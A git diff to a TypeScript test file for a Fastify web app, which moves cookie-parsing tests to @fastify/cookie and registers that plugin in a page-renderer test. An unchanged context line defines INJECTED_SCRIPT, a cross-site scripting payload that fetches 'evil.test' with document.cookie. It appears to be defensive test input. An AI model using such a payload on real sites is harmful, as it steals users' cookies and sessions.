@@ -1,5 +1,6 @@
 import { createHash } from 'node:crypto';
 import { brotliDecompressSync, gunzipSync } from 'node:zlib';
+import fastifyCookie from '@fastify/cookie';
 import fastifyCompress from '@fastify/compress';
 import { createTRPCClient } from '@trpc/client';
 import Fastify, { type FastifyInstance } from 'fastify';
@@ -25,11 +26,13 @@ const INJECTED_SCRIPT = "fetch('https://evil.test/?c='+document.cookie)";
 
 describe('request helpers', () => {
   it('reads the announcement cookie among others', () => {
+    // As @fastify/cookie parses a Cookie header into request.cookies.
+    const dismissed = (header: string) => isAnnouncementDismissed(fastifyCookie.parse(header));
     expect(isAnnouncementDismissed(undefined)).toBe(false);
-    expect(isAnnouncementDismissed('a=1; announcementDismissed=1')).toBe(true);
-    expect(isAnnouncementDismissed('announcementDismissed=1')).toBe(true);
-    expect(isAnnouncementDismissed('announcementDismissed=0; b=2')).toBe(false);
-    expect(isAnnouncementDismissed('xannouncementDismissed=1')).toBe(false);
+    expect(dismissed('a=1; announcementDismissed=1')).toBe(true);
+    expect(dismissed('announcementDismissed=1')).toBe(true);
+    expect(dismissed('announcementDismissed=0; b=2')).toBe(false);
+    expect(dismissed('xannouncementDismissed=1')).toBe(false);
   });
 
   it('keys pages by path, ignoring query strings that do not change the page', () => {
@@ -103,7 +106,8 @@ describe('createPageRenderer', () => {
     cache = testApp.services.cache.shelf<RenderedPage>(10);
     app = Fastify();
     registerSecurityHeaders(app);
-    // As in app.ts: the compress plugin compresses what the cache does not keep.
+    // As in app.ts: cookies parsed by @fastify/cookie; the compress plugin compresses what the cache does not keep.
+    await app.register(fastifyCookie);
     await app.register(fastifyCompress, { threshold: COMPRESSION_THRESHOLD_BYTES, encodings: ['br', 'gzip'] });
     const servePage = createPageRenderer({
       services: testApp.services,
